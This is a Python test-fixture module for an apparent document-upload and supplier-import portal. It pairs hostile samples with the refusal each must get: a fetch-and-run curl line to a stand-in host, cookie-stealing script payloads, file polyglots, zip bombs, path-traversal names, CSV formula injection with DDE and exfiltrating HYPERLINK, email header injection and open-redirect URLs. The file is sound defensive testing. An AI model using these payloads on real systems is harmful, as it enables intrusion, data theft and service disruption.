"""The hostile input corpus: every hostile file, CSV, string and URL the tests in this package try.

Everything is generated in code (no binary fixtures). Each entry says what must happen to it: the
message the user is shown when it is refused, or what it is stored as when accepting it is right.
The test modules beside this one parametrize over these lists, through the web and the API alike.
"""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

# --- Messages the user must see (GOV.UK style: what is wrong, and what to do) -----------------------

EMPTY = "The selected file is empty. Choose a file that has something in it."
TOO_LARGE = "The file must be smaller than 20 MB."
NOT_ALLOWED = "The file must be a PDF, PNG, JPEG, Word (DOCX), Excel (XLSX), CSV or plain text file."
MARKUP = (
    "The file looks like a web page or a script, which cannot be uploaded. "
    "Save the document as a PDF and upload that instead."
)
UNSAFE_ZIP = "The file could not be checked safely. Save it again from Word or Excel and upload the new copy."
MACROS = (
    "The file contains macros, which cannot be uploaded. "
    "Save it as a Word (.docx) or Excel (.xlsx) file without macros and upload the new copy."
)
NO_FILE = "Choose a file to upload"


def mismatch(description: str, extension: str) -> str:
    return (
        f"The file’s contents are {description} but its name ends in .{extension}. Rename it or choose the right file."
    )


def not_ending_in(description: str, expected: str) -> str:
    return (
        f"The file’s contents are {description} but its name does not end in {expected}. "
        "Rename it or choose the right file."
    )


def no_extension(expected: str) -> str:
    return f"The file’s name has no extension. Add {expected} to the end of its name and upload it again."


# --- Building blocks -----------------------------------------------------------------------------

MB = 1024 * 1024
PDF = (
    b"%PDF-1.4\n"
    b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 72 72]>>endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF\n"
)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>'
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(44)
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + bytes(200) + b"This program cannot be run"
SHELL = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
# A GIF whose header is also the start of a JavaScript comment: <script src=photo.gif> runs it.
GIF_JS = b"GIF89a/*\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00*/=1;alert(document.domain);//;"


def png() -> bytes:
    def chunk(tag: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + tag + data + struct.pack(">I", zlib.crc32(tag + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
        + (chunk(b"IEND", b""))
    )


def jpeg_with_script_comment() -> bytes:
    comment = b"<script>alert(1)</script>"
    return JPEG[:20] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + JPEG[20:]


def _office_members(kind: str) -> dict[str, bytes]:
    members = {"[Content_Types].xml": b'<?xml version="1.0"?><Types/>', "_rels/.rels": b"<Relationships/>"}
    if kind == "docx":
        members["word/document.xml"] = b"<w:document><w:body><w:p/></w:body></w:document>"
    elif kind == "xlsx":
        members["xl/workbook.xml"] = b"<workbook><sheets/></workbook>"
        members["xl/worksheets/sheet1.xml"] = b"<worksheet><sheetData/></worksheet>"
    return members


def office(kind: str, extra: dict[str, bytes] | None = None) -> bytes:
    """A minimal DOCX or XLSX (or a plain zip for "zip"), with `extra` members added."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, data in {**_office_members(kind), **(extra or {})}.items():
            archive.writestr(path, data)
    return buffer.getvalue()


def _zeros_member(archive: zipfile.ZipFile, path: str, megabytes: int) -> None:
    info = zipfile.ZipInfo(path)
    info.compress_type = zipfile.ZIP_DEFLATED
    with archive.open(info, "w", force_zip64=False) as member:
        block = bytes(MB)
        for _ in range(megabytes):
            member.write(block)


@functools.cache
def xlsx_bomb() -> bytes:
    """A valid-looking workbook whose one extra member inflates to 300 MB of zeros (about 300 KB sent)."""
    buffer = io.BytesIO(office("xlsx"))
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        _zeros_member(archive, "xl/media/image1.png", 300)
    return buffer.getvalue()


def docx_lying_sizes() -> bytes:
    """A document whose directory says a small member inflates to 600 MB: the check trusts no unpacking."""
    data = bytearray(office("docx", {"word/media/big.bin": bytes(4096)}))
    at = data.rfind(b"PK\x01\x02")  # the last central directory entry is the added member
    struct.pack_into("<I", data, at + 24, 600 * MB)  # uncompressed size
    return bytes(data)


@functools.cache
def docx_many_members() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for path, data in _office_members("docx").items():
            archive.writestr(path, data)
        for number in range(10_001):
            archive.writestr(f"word/media/{number}.bin", b"")
    return buffer.getvalue()


@functools.cache
def docx_with_nested_bomb() -> bytes:
    """A document embedding a zip (as Word embeds workbooks) that itself holds a 300 MB bomb."""
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        _zeros_member(archive, "zeros.bin", 300)
    return office("docx", {"word/embeddings/oleObject1.zip": inner.getvalue()})


def docx_member(path: str) -> Callable[[], bytes]:
    return lambda: office("docx", {path: b"evil"})


def just_over_limit(limit: int = 20 * MB) -> bytes:
    return PDF + b"%" + b"x" * (limit - len(PDF))


def text_with_script_after(offset: int) -> bytes:
    filler = b"Toolbox talk notes, attendance recorded.\n" * (offset // 41 + 1)
    return filler + b"<script>alert(1)</script>\n"


# --- Uploads ---------------------------------------------------------------------------------


@dataclass(frozen=True)
class HostileUpload:
    """A file as a browser or API client would send it, and what must happen to it.

    `error` is the message shown next to the file field when it is refused. When `error` is None the
    file is accepted: it is stored with the type its content has (`stored_type`) under the display name
    `stored_name`, and served as an attachment with nosniff.
    """

    id: str
    filename: str
    data: Callable[[], bytes]
    content_type: str = "application/octet-stream"
    error: str | None = None
    stored_type: str | None = None
    stored_name: str | None = None


PDF_TYPE = "application/pdf"
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
DOCX = "a Word document (DOCX)"


def _pdf() -> bytes:
    return PDF


UPLOADS: list[HostileUpload] = [
    # Polyglots: a valid PDF, PNG or JPEG with something else inside or appended is stored as what its
    # content starts as, and served as that type with nosniff, so no browser runs the rest.
    HostileUpload("pdf+html", "policy.pdf", lambda: PDF + HTML, "application/pdf", None, PDF_TYPE, "policy.pdf"),
    HostileUpload("pdf+zip", "policy.pdf", lambda: PDF + office("docx"), PDF_TYPE, None, PDF_TYPE, "policy.pdf"),
    HostileUpload("png+html", "photo.png", lambda: png() + HTML, "image/png", None, "image/png", "photo.png"),
    HostileUpload("png+zip", "photo.png", lambda: png() + office("zip"), "image/png", None, "image/png", "photo.png"),
    HostileUpload(
        "jpeg-comment-script", "photo.jpg", jpeg_with_script_comment, "image/jpeg", None, "image/jpeg", "photo.jpg"
    ),
    HostileUpload(
        "pdf-header-on-html", "page.pdf", lambda: b"%PDF-1.4\n" + HTML, "text/html", None, PDF_TYPE, "page.pdf"
    ),
    HostileUpload(
        "text+script-deep",
        "notes.txt",
        lambda: text_with_script_after(8192),
        "text/plain",
        None,
        "text/plain",
        "notes.txt",
    ),
    HostileUpload("gif-js", "chart.png", lambda: GIF_JS, "image/png", NOT_ALLOWED),
    HostileUpload("gif-js-as-gif", "chart.gif", lambda: GIF_JS, "image/gif", NOT_ALLOWED),
    HostileUpload("html+docx", "minutes.docx", lambda: HTML + office("docx"), DOCX_TYPE, MARKUP),
    HostileUpload("text+script-early", "notes.txt", lambda: text_with_script_after(100), "text/plain", MARKUP),
    # Type spoofing: the content decides, never the name or the Content-Type header.
    HostileUpload("html-as-pdf", "policy.pdf", lambda: HTML, PDF_TYPE, MARKUP),
    HostileUpload("html-as-docx", "minutes.docx", lambda: HTML, DOCX_TYPE, MARKUP),
    HostileUpload("svg-as-png", "logo.png", lambda: SVG, "image/png", MARKUP),
    HostileUpload("elf-as-pdf", "policy.pdf", lambda: ELF, PDF_TYPE, NOT_ALLOWED),
    HostileUpload("exe-as-docx", "minutes.docx", lambda: EXE, DOCX_TYPE, NOT_ALLOWED),
    HostileUpload("script-as-pdf", "policy.pdf", lambda: SHELL, PDF_TYPE, NOT_ALLOWED),
    HostileUpload("pdf-as-docx", "minutes.docx", _pdf, DOCX_TYPE, mismatch("a PDF", "docx")),
    HostileUpload("docx-as-pdf", "policy.pdf", lambda: office("docx"), PDF_TYPE, mismatch(DOCX, "pdf")),
    HostileUpload("pdf-sent-as-html", "policy.pdf", _pdf, "text/html", None, PDF_TYPE, "policy.pdf"),
    HostileUpload("png-sent-as-exe", "photo.png", png, "application/x-msdownload", None, "image/png", "photo.png"),
    HostileUpload("text-sent-as-pdf", "notes.txt", lambda: b"Notes\n", PDF_TYPE, None, "text/plain", "notes.txt"),
    HostileUpload(
        "docx-with-macros",
        "minutes.docx",
        lambda: office("docx", {"word/vbaProject.bin": b"\xd0\xcf"}),
        DOCX_TYPE,
        MACROS,
    ),
    # Zip bombs and hostile archives in Word and Excel files: nothing is ever unpacked.
    HostileUpload("xlsx-300mb-member", "log.xlsx", xlsx_bomb, "application/octet-stream", UNSAFE_ZIP),
    HostileUpload("docx-lying-sizes", "minutes.docx", docx_lying_sizes, DOCX_TYPE, UNSAFE_ZIP),
    HostileUpload("docx-10001-members", "minutes.docx", docx_many_members, DOCX_TYPE, UNSAFE_ZIP),
    HostileUpload("docx-traversal", "minutes.docx", docx_member("../../evil"), DOCX_TYPE, UNSAFE_ZIP),
    HostileUpload("docx-traversal-inside", "minutes.docx", docx_member("word/../../evil.sh"), DOCX_TYPE, UNSAFE_ZIP),
    HostileUpload("docx-absolute-member", "minutes.docx", docx_member("/etc/cron.d/evil"), DOCX_TYPE, UNSAFE_ZIP),
    HostileUpload("docx-backslash-member", "minutes.docx", docx_member("..\\..\\evil.bat"), DOCX_TYPE, UNSAFE_ZIP),
    HostileUpload("docx-drive-member", "minutes.docx", docx_member("C:/Windows/evil.dll"), DOCX_TYPE, UNSAFE_ZIP),
    HostileUpload(
        # Word embeds workbooks as zips; the portal never unpacks anything, so the outer file is fine.
        "docx-nested-bomb",
        "minutes.docx",
        docx_with_nested_bomb,
        DOCX_TYPE,
        None,
        DOCX_TYPE,
        "minutes.docx",
    ),
    HostileUpload("empty-zip-as-xlsx", "log.xlsx", lambda: b"PK\x05\x06" + bytes(18), "application/zip", NOT_ALLOWED),
    # Size.
    HostileUpload("just-over-20mb", "policy.pdf", just_over_limit, PDF_TYPE, TOO_LARGE),
    HostileUpload("zero-bytes", "policy.pdf", lambda: b"", PDF_TYPE, EMPTY),
    HostileUpload("only-whitespace", "notes.txt", lambda: b" \r\n\t\n", "text/plain", EMPTY),
    # Long names are accepted, shortened to 150 characters keeping the extension.
    HostileUpload("name-300-chars", "a" * 300 + ".pdf", _pdf, PDF_TYPE, None, PDF_TYPE, "a" * 146 + ".pdf"),
    HostileUpload("name-300-accents", "é" * 300 + ".pdf", _pdf, PDF_TYPE, None, PDF_TYPE, "é" * 146 + ".pdf"),
    # Odd names: directories are dropped, invisible characters removed; the stored file's own name is
    # always a random one, so the name only matters for display and the download's Content-Disposition.
    HostileUpload("name-unix-traversal", "../../etc/passwd.pdf", _pdf, PDF_TYPE, None, PDF_TYPE, "passwd.pdf"),
    HostileUpload("name-windows-traversal", "..\\..\\Windows\\evil.pdf", _pdf, PDF_TYPE, None, PDF_TYPE, "evil.pdf"),
    HostileUpload("name-absolute", "/etc/passwd.pdf", _pdf, PDF_TYPE, None, PDF_TYPE, "passwd.pdf"),
    HostileUpload("name-dotdot", "..", _pdf, PDF_TYPE, NO_FILE),
    HostileUpload("name-only-dots", "....", _pdf, PDF_TYPE, no_extension(".pdf")),
    HostileUpload("name-only-spaces", "    ", _pdf, PDF_TYPE, no_extension(".pdf")),
    HostileUpload("name-nul", "report\x00.exe.pdf", _pdf, PDF_TYPE, None, PDF_TYPE, "report.exe.pdf"),
    HostileUpload("name-escape", "report\x1b[31m.pdf", _pdf, PDF_TYPE, None, PDF_TYPE, "report[31m.pdf"),
    HostileUpload("name-crlf", "report\r\nX-Evil: 1.pdf", _pdf, PDF_TYPE, None, PDF_TYPE, "reportX-Evil: 1.pdf"),
    HostileUpload("name-rtl-exe", "invoice\u202efdp.exe", _pdf, PDF_TYPE, mismatch("a PDF", "exe")),
    HostileUpload("name-rtl-pdf", "photo\u202egnp.pdf", _pdf, PDF_TYPE, None, PDF_TYPE, "photognp.pdf"),
    HostileUpload("name-confusable-ext", "policy.\u0440df", _pdf, PDF_TYPE, not_ending_in("a PDF", ".pdf")),
    HostileUpload("name-confusable-stem", "p\u043elicy.pdf", _pdf, PDF_TYPE, None, PDF_TYPE, "p\u043elicy.pdf"),
    HostileUpload("name-reserved-con", "CON.pdf", _pdf, PDF_TYPE, None, PDF_TYPE, "CON.pdf"),
    HostileUpload("name-reserved-com1", "com1.txt", lambda: b"Notes\n", "text/plain", None, "text/plain", "com1.txt"),
    HostileUpload("name-trailing-dot", "policy.pdf.", _pdf, PDF_TYPE, None, PDF_TYPE, "policy.pdf"),
    HostileUpload("name-ads-stream", "policy.pdf::$DATA", _pdf, PDF_TYPE, not_ending_in("a PDF", ".pdf")),
    HostileUpload("name-html", "<img src=x onerror=alert(1)>.pdf", _pdf, PDF_TYPE, None, PDF_TYPE),
    HostileUpload("name-quotes", 'say "hi"; filename=evil.exe.pdf', _pdf, PDF_TYPE, None, PDF_TYPE),
]


# --- CSV import --------------------------------------------------------------------------------

HEADER = "name,contact_name,contact_email,company_number,country\n"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]


@dataclass(frozen=True)
class HostileCsv:
    """A supplier import file and the problem it must be refused with.

    `file_error` is the message for the whole file; `row_errors` maps "rows.<line>[.<column>]" (the API's
    field names) to a message shown for that cell. Either way no supplier is added.
    """

    id: str
    data: Callable[[], bytes]
    file_error: str | None = None
    row_errors: dict[str, str] | None = None


def _rows(*rows: str) -> Callable[[], bytes]:
    return lambda: (HEADER + "".join(row + "\n" for row in rows)).encode()


SAVE_AS = "In Excel, choose Save As > CSV UTF-8 (Comma delimited), then upload it again."
CSVS: list[HostileCsv] = [
    HostileCsv(
        "name-over-200",
        _rows("A" * 201 + ",,a@a.example,,GB"),
        row_errors={"rows.2.name": "Name is longer than 200 characters"},
    ),
    HostileCsv(
        "multi-mb-cell",
        lambda: (HEADER + '"' + "B" * (3 * MB) + '",,b@b.example,,GB\n').encode(),
        file_error="Line 2 could not be read: a cell is far too long, usually because a quotation mark is never "
        "closed. Check the quotation marks on that line and upload the file again.",
    ),
    HostileCsv(
        "email-over-200",
        _rows("Acme,," + "x" * 250 + "@a.example,,GB"),
        row_errors={"rows.2.contact_email": "Email address is longer than 200 characters"},
    ),
    HostileCsv(
        "over-5mb",
        lambda: (HEADER + "C,,c@c.example,,GB\n" * 300_000).encode(),
        file_error=("The file is larger than 5 MB. Split it into smaller files and upload them one at a time."),
    ),
    HostileCsv(
        "nul-bytes",
        lambda: (HEADER + "Nul\x00 Ltd,,n@n.example,,GB\n").encode(),
        file_error=f"The file contains binary data, so it is not a CSV file. {SAVE_AS}",
    ),
    HostileCsv(
        "binary-elf",
        lambda: ELF + b"\n" + HEADER.encode(),
        file_error=f"The file contains binary data, so it is not a CSV file. {SAVE_AS}",
    ),
    HostileCsv(
        "invalid-utf8",
        lambda: HEADER.encode() + b"M\xfcller \xff\xfe GmbH,,m@m.example,,DE\n",
        file_error=f"The file is not UTF-8 text. {SAVE_AS}",
    ),
    HostileCsv(
        "utf16-bom",
        lambda: (HEADER + "Acme,,a@a.example,,GB\n").encode("utf-16"),
        file_error=f"The file is not UTF-8 text. {SAVE_AS}",
    ),
    HostileCsv(
        "xlsx-renamed", lambda: office("xlsx"), file_error=f"The file is an Excel workbook, not a CSV file. {SAVE_AS}"
    ),
    HostileCsv(
        "too-many-columns",
        lambda: (HEADER + "Acme,,a@a.example,,GB" + ",x" * 5000 + "\n").encode(),
        row_errors={
            "rows.2": "This row has more cells than there are columns; put quotes around any value that contains "
            "a comma"
        },
    ),
    HostileCsv(
        "too-many-named-columns",
        lambda: (HEADER.strip() + "".join(f",extra{n}" for n in range(3)) + "\nAcme,,a@a.example,,GB,1,2,3\n").encode(),
        file_error="Unknown column “extra0”: remove it or rename it to one of name, contact_name, contact_email, "
        "company_number, country.",
    ),
    HostileCsv(
        "too-many-rows",
        lambda: (HEADER + "".join(f"S{n},,s{n}@x.example,,GB\n" for n in range(10_001))).encode(),
        file_error="The file has 10,001 rows; import at most 10,000 at a time.",
    ),
    HostileCsv(
        "headerless",
        lambda: b"Acme Ltd,Ann,ann@acme.example,01234567,GB\nBeta Ltd,Bob,bob@beta.example,,GB\n",
        file_error="The first row must hold the column names: name, contact_name, contact_email, company_number, "
        "country. Download the template to see the layout.",
    ),
    HostileCsv(
        "control-characters",
        _rows("Evil\x1b[2J Ltd,,e@e.example,,GB", "Gnp\u202eexe.pdf Ltd,,g@g.example,,GB"),
        row_errors={
            "rows.2.name": "Name must not contain hidden control characters",
            "rows.3.name": "Name must not contain hidden control characters",
        },
    ),
    # Header injection: a line break in a name that goes into an email subject (issue 15, part 5).
    HostileCsv(
        "line-breaks",
        _rows(
            '"CRLF Ltd\r\nBcc: victim@evil.example",,c@c.example,,GB',
            'LF Ltd,"Ann\nBcc: victim@evil.example",l@l.example,,GB',
            '"CR Ltd\rSubject: hi",,r@r.example,,GB',
            '"Sep Ltd\u2028Bcc: x",,s@s.example,,GB',
        ),
        row_errors={
            "rows.2.name": "Name must be on one line: remove the line breaks",
            "rows.3.contact_name": "Contact name must be on one line: remove the line breaks",
            "rows.4.name": "Name must be on one line: remove the line breaks",
            "rows.5.name": "Name must be on one line: remove the line breaks",
        },
    ),
    HostileCsv(
        "tab-and-bell",
        _rows("Tab\tLtd,,t@t.example,,GB", "Acme,Bell\x07 Smith,b@b.example,,GB"),
        row_errors={
            "rows.2.name": "Name must not contain hidden control characters",
            "rows.3.contact_name": "Contact name must not contain hidden control characters",
        },
    ),
]


# --- Forms and API strings -----------------------------------------------------------------------

CONTROL_STRINGS = {
    "nul": "Acme\x00 Ltd",
    "escape": "Acme \x1b[31mLtd",
    "rtl-override": "Acme \u202edtL",
}

# Values that would break an email header (the subject names the supplier, the buyer, the inviter),
# each with the message the field shows. Django refuses such a header when the email is built.
ONE_LINE = "must be on one line: remove the line breaks"
HIDDEN = "must not contain hidden control characters"
HEADER_BREAKERS = {
    "crlf-bcc": ("CRLF Ltd\r\nBcc: victim@evil.example", ONE_LINE),
    "lf": ("Acme\nLtd", ONE_LINE),
    "cr": ("Acme\rSubject: free money", ONE_LINE),
    "line-separator": ("Acme\u2028Ltd", ONE_LINE),
    "next-line": ("Acme\x85Ltd", ONE_LINE),
    "vertical-tab": ("Acme\x0bLtd", ONE_LINE),
    "tab": ("Acme\tLtd", HIDDEN),
    "bell": ("Acme\x07 Ltd", HIDDEN),
    "escape": ("Acme \x1b[31mLtd", HIDDEN),
}

# Organisation names and the slug they must become: lower-case ASCII letters, digits and single hyphens.
SLUG_NAMES = [
    ("cyrillic-a", "\u0430cme Engineering"),  # Cyrillic "а"
    ("all-cyrillic", "\u0410\u0441\u043c\u0435"),  # "Асме", every letter a look-alike
    ("mixed-scripts", "Pay\u0440al Gr\u0435ek \u0391lpha"),
    ("uppercase", "ACME PRECISION"),
    ("hyphens", "--Acme--Engineering--"),
    ("fullwidth", "\uff21\uff43\uff4d\uff45 Ltd"),
    ("accents", "Café Müller Œuvre"),
    ("dots-and-slashes", "../../etc/passwd"),
    ("only-symbols", "!!!***"),
    ("rtl-override", "Acme \u202eLtd"),
    ("emoji", "Acme \U0001f525 Tools"),
    ("long", "Engineering " * 30),
]


# --- Redirect targets ------------------------------------------------------------------------------

EVIL_NEXT = [
    "https://evil.example",
    "https://evil.example/o/",
    "//evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "\\/evil.example",
    "https:evil.example",
    "http:/evil.example",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "%2F%2Fevil.example",
    " //evil.example",
    "\t//evil.example",
    "/%09/evil.example",
    "///evil.example",
    "https://testserver@evil.example",
    "/\r\nLocation: https://evil.example",
]
